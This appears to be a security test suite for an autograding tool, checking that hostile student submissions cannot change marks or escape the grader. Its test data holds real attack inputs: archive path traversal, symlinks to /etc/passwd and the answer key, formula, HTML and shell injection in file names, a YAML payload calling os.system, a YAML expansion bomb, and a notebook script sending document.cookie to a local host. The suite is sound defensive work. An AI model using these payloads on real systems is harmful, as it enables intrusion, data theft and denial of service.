"""What is hostile outside the box: exports, names, stored data, planted results. No mark moves, and the others count.

Each test is one thing that a student could submit or do, or that could happen to what earlier runs stored.
"""

import io
import os
import stat
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.run_command import Ran, Viva
from tests.support.words_course import KEEPS_CASE, RIGHT, hand_in, hand_in_notebook
from viva.formats.results_json import load_results
from viva.records import Records

pytestmark = [pytest.mark.long, pytest.mark.skipif(not sys.platform.startswith("linux"), reason="links, pipes, tar")]


def points(*path: str, out: str = "out") -> float | None:
    """The mark in one result."""
    return load_results(Path(out, *path, "results.json")).score


def graded(ran: Ran, *statuses: int) -> None:
    """It ended as it should: with a status of viva and without a traceback."""
    assert "Traceback" not in ran.out + ran.err and ran.status in (statuses or (0,)), ran.err


def archive(path: Path, entries: list[tuple[str, bytes]]) -> Path:
    """A zip with these names exactly, also twice the same."""
    with zipfile.ZipFile(path, "w") as made:
        for name, data in entries:
            info = zipfile.ZipInfo(name)
            made.writestr(info, data)
    return path


# --- the export of a class


def test_an_archive_that_reaches_into_the_folder_of_another(viva: Viva) -> None:
    archive(
        Path("class.zip"),
        [
            ("class/ada/solution.py", KEEPS_CASE.encode()),
            ("class/bob/solution.py", RIGHT.encode()),
            ("class/ada/../bob/solution.py", b"raise SystemExit"),
            ("../outside.py", b"x"),
            ("/tmp/viva-absolute.py", b"x"),
        ],
    )
    ran = viva("grade", "class.zip", "--class", "-o", "out")
    graded(ran, 0, 1)
    marks = {path.parent.name: load_results(path).score for path in Path("out").rglob("results.json")}
    assert marks.get("bob") in (9, None) and marks.get("ada") in (3, None)
    assert not Path("../outside.py").exists() and not Path("/tmp/viva-absolute.py").exists()


def test_a_tar_with_links_to_the_key_and_devices(viva: Viva, own_course: Path) -> None:
    with tarfile.open("class.tar", "w") as made:
        for name, target in (("key", own_course / "graders/words/key.py"), ("passwd", Path("/etc/passwd"))):
            link = tarfile.TarInfo(f"class/ada/{name}.py")
            link.type, link.linkname = tarfile.SYMTYPE, str(target)
            made.addfile(link)
        device = tarfile.TarInfo("class/ada/zero")
        device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 5
        made.addfile(device)
        file = tarfile.TarInfo("class/ada/solution.py")
        file.size, file.mode = len(RIGHT), 0o4777
        made.addfile(file, io.BytesIO(RIGHT.encode()))
    ran = viva("grade", "class.tar", "--class", "-o", "out")
    graded(ran, 0, 1)
    assert "word_counts(text)" not in ran.out + ran.err and "root:" not in ran.out + ran.err
    (result,) = Path("out").rglob("results.json")
    assert load_results(result).score == 9 and "the model answers" not in result.read_text().lower()


def test_two_files_of_one_name_in_an_archive(viva: Viva) -> None:
    """Programs differ in which they show: a marker would read one, and the examiner grade the other."""
    with pytest.warns(UserWarning, match="Duplicate name"):
        archive(Path("ada.zip"), [("solution.py", RIGHT.encode()), ("solution.py", KEEPS_CASE.encode())])
    ran = viva("grade", "ada.zip", "-o", "out")
    graded(ran, 0, 1)
    (result,) = Path("out").rglob("results.json")
    assert load_results(result).score == 3
    assert "is in ada.zip more than once; the last one counts" in result.read_text("utf-8")


def test_names_that_are_commands_markup_and_formulas(viva: Viva, keeping: Path) -> None:
    names = [
        *("=1+1;cmd|'/C calc'!A0", "<img src=x onerror=alert(1)>", "$(touch hacked)", "--tier=T0"),
        *("a\x1b]52;c;Zm9v\x07b", "\u202eadA", "'; DROP TABLE scores; --"),
    ]
    for name in names:
        hand_in(Path("class", name.replace("/", "_")))
    ran = viva("grade", "class", "-o", "out", "--class")
    graded(ran)
    assert {load_results(path).score for path in Path("out").rglob("results.json")} == {9}
    assert not Path("hacked").exists() and "\x1b]52" not in ran.out + ran.err and "\u202e" not in ran.out
    report = viva("report", "out", "-o", "report", "--feedback")
    graded(report)
    for path in Path("report").rglob("*.html"):
        assert "<img src=x" not in path.read_text("utf-8")
    for path in Path("report").rglob("*.csv"):
        cells = [cell for line in path.read_text("utf-8").splitlines() for cell in line.split(",")]
        assert not any(cell.strip('"').startswith(("=", "+1", "@")) for cell in cells)
    with Records.open("sqlite:///records.db", keeping) as records:
        assert len(records.current("words")) == len(names)


def test_the_same_name_in_two_forms_of_unicode_and_two_cases(viva: Viva) -> None:
    for name, source in (("é", RIGHT), ("e\u0301", KEEPS_CASE), ("ADA", KEEPS_CASE), ("ada", RIGHT)):
        hand_in(Path("class", name), source)
    graded(viva("grade", "class", "-o", "out"))
    assert [points("class", name) for name in ("é", "e\u0301", "ADA", "ada")] == [9, 3, 3, 9]


def test_a_name_as_long_as_names_can_be(viva: Viva) -> None:
    hand_in(Path("class", "a" * 255))
    hand_in(Path("class", "ada"))
    graded(viva("grade", "class", "-o", "out"), 0, 1)
    assert points("class", "ada") == 9


# --- planted next to the program


def test_planted_results_are_files_like_others(viva: Viva, keeping: Path) -> None:
    """In the submission itself, where results are written, and below it, where a report could find them."""
    hand_in(Path("class/bob"))
    graded(viva("grade", "class/bob", "-o", "model", "--no-records"))
    best = next(Path("model").rglob("results.json")).read_text("utf-8")
    hand_in(Path("class/ada"), KEEPS_CASE)
    for place in ("class/ada/results.json", "class/ada/.checkpoints/results.json", "class/ada/deeper/results.json"):
        Path(place).parent.mkdir(exist_ok=True)
        Path(place).write_text(best.replace("class/bob", "class/ada"), "utf-8")
    graded(viva("grade", "class/ada", "class/bob", "-o", "out"))
    assert points("class", "ada") == 3
    ran = viva("report", "out", "-o", "report")
    graded(ran)
    with Records.open("sqlite:///records.db", keeping) as records:
        assert {each.scored.attempt.name: int(each.scored.score.earned) for each in records.current("words")} == {
            "ada": 3, "bob": 9,
        }  # fmt: skip


@pytest.mark.parametrize(
    "name", ["grader.yaml", "conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "viva.py"]
)
def test_files_that_would_configure_us(viva: Viva, name: str) -> None:
    hand_in(Path("ada"), KEEPS_CASE)
    Path("ada", name).write_text("import os, sys\nprint('taken over')\nos._exit(0)\n", "utf-8")
    ran = viva("grade", "ada", "-o", "out")
    graded(ran)
    assert points("ada") == 3 and "taken over" not in ran.out + ran.err


def test_a_pipe_and_a_socket_among_the_files(viva: Viva) -> None:
    import socket

    hand_in(Path("ada"))
    os.mkfifo("ada/data.csv")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("ada/s.sock")
        graded(viva("grade", "ada", "-o", "out"))
    assert points("ada") == 9


def test_answers_as_yaml_that_builds_objects(viva: Viva) -> None:
    hand_in(Path("ada"), RIGHT.replace('answers = {"2.1": "B"}', ""))
    Path("ada/answers.yaml").write_text('"2.1": !!python/object/apply:os.system ["touch hacked"]\n', "utf-8")
    graded(viva("grade", "ada", "-o", "out"), 0, 1)
    assert not Path("hacked").exists() and points("ada") == 8


def test_answers_as_yaml_that_grows(viva: Viva) -> None:
    bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
    bomb += "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    hand_in(Path("ada"), RIGHT.replace('answers = {"2.1": "B"}', ""))
    Path("ada/answers.yaml").write_text(bomb + '"2.1": *a9\n', "utf-8")
    graded(viva("grade", "ada", "-o", "out"), 0, 1)
    assert points("ada") == 8


def test_a_notebook_that_asks_for_another_kernel(viva: Viva) -> None:
    kernel = {"kernelspec": {"name": "../../../tmp/evil", "language": "bash", "display_name": "x"}}
    hand_in_notebook(Path("ada"), RIGHT, metadata=kernel)
    graded(viva("grade", "ada", "-o", "out"))
    assert points("ada") in (9, 0)


def test_outputs_of_a_notebook_that_are_programs(viva: Viva) -> None:
    """They are shown to staff in the executed notebook and in the queue, as data."""
    script = "<script>fetch('http://127.0.0.1:9/' + document.cookie)</script>"
    shown = f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({script!r}), Javascript('alert(1)'))"
    hand_in_notebook(Path("class/ada"), shown, RIGHT)
    hand_in(Path("class/bob"))
    graded(viva("grade", "class", "-o", "out"))
    assert points("class", "ada") == 9
    graded(viva("report", "out", "-o", "report", "--feedback"))
    assert not any(script in path.read_text("utf-8") for path in Path("report").rglob("*.html"))


# --- what earlier runs stored


@pytest.fixture
def two(viva: Viva, keeping: Path) -> Path:
    """Two submissions whose scores are kept."""
    hand_in(Path("class/ada"), KEEPS_CASE)
    hand_in(Path("class/bob"))
    graded(viva("grade", "class/ada", "class/bob", "-o", "out"))
    return keeping


def change_tests(course: Path) -> None:
    tests = course / "graders/words/test_words.py"
    tests.write_text(tests.read_text("utf-8").replace("@weight(4)", "@weight(3)").replace("@weight(1)", "@weight(2)"))


def call_logs(course: Path, change: Callable[[bytes], bytes]) -> None:
    with Records.open("sqlite:///records.db", course) as records, records.engine.begin() as connection:
        for number, data in connection.exec_driver_sql("SELECT id, data FROM call_logs").all():
            connection.exec_driver_sql("UPDATE call_logs SET data = ? WHERE id = ?", (change(data), number))


@pytest.mark.parametrize(
    "change",
    [
        lambda data: data[: len(data) // 2],
        lambda data: data[:60] + bytes([data[60] ^ 0xFF]) + data[61:],
        lambda data: b"",
        lambda data: __import__("zlib").compress(bytes(1 << 28)),
        lambda data: __import__("zlib").compress(b"\x81\xa6format\xc0"),
    ],
    ids=["cut short", "flipped", "empty", "256 MiB of zeros", "no log"],
)
def test_call_logs_that_are_damaged(viva: Viva, two: Path, change: Callable[[bytes], bytes]) -> None:
    """A regrade then asks the program, or leaves the score as it is and says so."""
    call_logs(two, change)
    change_tests(two)
    ran = viva("regrade", "words")
    graded(ran, 0, 1)
    viva("regrade", "words", "--apply")
    with Records.open("sqlite:///records.db", two) as records:
        marks = {each.scored.attempt.name: int(each.scored.score.earned) for each in records.current("words")}
    assert marks in ({"ada": 4, "bob": 9}, {"ada": 3, "bob": 9})


def test_call_logs_that_were_exchanged(viva: Viva, two: Path) -> None:
    """Ada's program gets no points for what Bob's answered: her log asks for her own bytes."""
    with Records.open("sqlite:///records.db", two) as records, records.engine.begin() as connection:
        (one, first), (other, second) = connection.exec_driver_sql("SELECT id, data FROM call_logs ORDER BY id").all()
        connection.exec_driver_sql("UPDATE call_logs SET data = ? WHERE id = ?", (second, one))
        connection.exec_driver_sql("UPDATE call_logs SET data = ? WHERE id = ?", (first, other))
    change_tests(two)
    graded(viva("regrade", "words"), 0, 1)


def test_records_that_are_a_link(viva: Viva, own_course: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    (own_course / "records.db").symlink_to(victim)
    hand_in(Path("ada"))
    ran = viva("grade", "ada", "--records", "sqlite:///records.db")
    assert ran.status == 1 and "cannot be kept" in ran.sentence() and victim.read_bytes() == b"precious"


def test_results_that_are_a_link_out_of_the_folder(viva: Viva, tmp_path: Path) -> None:
    """Whoever may write there may send the result elsewhere; the command replaces that file whole or not at all."""
    hand_in(Path("ada"))
    Path("out/ada").mkdir(parents=True)
    Path("out/ada/results.json").symlink_to(tmp_path / "elsewhere.json")
    graded(viva("grade", "ada", "-o", "out"))
    assert load_results(tmp_path / "elsewhere.json").score == 9


def test_a_folder_of_checkpoints_that_is_a_trap(viva: Viva, own_course: Path) -> None:
    hand_in(Path("ada"))
    place = Path("out/ada/.checkpoints")
    place.mkdir(parents=True)
    os.mkfifo(place / f"{'0' * 16}-{'0' * 16}.checkpoint")
    (place / f"{'1' * 16}-{'0' * 16}.checkpoint").symlink_to(own_course / "graders/words/key.py")
    graded(viva("grade", "ada", "-o", "out"))
    assert points("ada") == 9 and (own_course / "graders/words/key.py").read_text().startswith('"""The model')


# --- what students run themselves


def test_packing_takes_nothing_along_that_is_not_theirs(viva: Viva, tmp_path: Path) -> None:
    (tmp_path / "private.txt").write_text("my diary")
    hand_in(Path("mine"))
    Path("mine/notes.txt").symlink_to(tmp_path / "private.txt")
    os.link(tmp_path / "private.txt", "mine/hard.md")
    ran = viva("pack", "mine", "-o", "mine.zip")
    graded(ran, 0, 1)
    if Path("mine.zip").exists():
        with zipfile.ZipFile("mine.zip") as made:
            assert "notes.txt" not in " ".join(made.namelist())
            assert not any(stat.S_ISLNK(info.external_attr >> 16) for info in made.infolist())


def test_a_program_that_checks_itself_while_it_is_graded(viva: Viva) -> None:
    calls = "import viva\nviva.check()\nviva.check = lambda *a, **k: 1 / 0\n"
    hand_in(Path("ada"), calls + KEEPS_CASE)
    graded(viva("grade", "ada", "-o", "out"))
    assert points("ada") == 3


def test_the_arguments_of_merge_and_diff_are_results_or_a_sentence(viva: Viva) -> None:
    for name, text in {"deep": "[" * 100_000, "number": '{"score": 1e999}', "nul": "\0", "list": "[]"}.items():
        Path(f"{name}.json").write_text(text, "utf-8")
        for command in (
            ("merge", f"{name}.json", f"{name}.json", "-o", "merged.json"),
            ("diff", f"{name}.json", f"{name}.json"),
        ):
            ran = viva(*command)
            assert ran.status == 1 and "Traceback" not in ran.err, (name, command, ran.err)
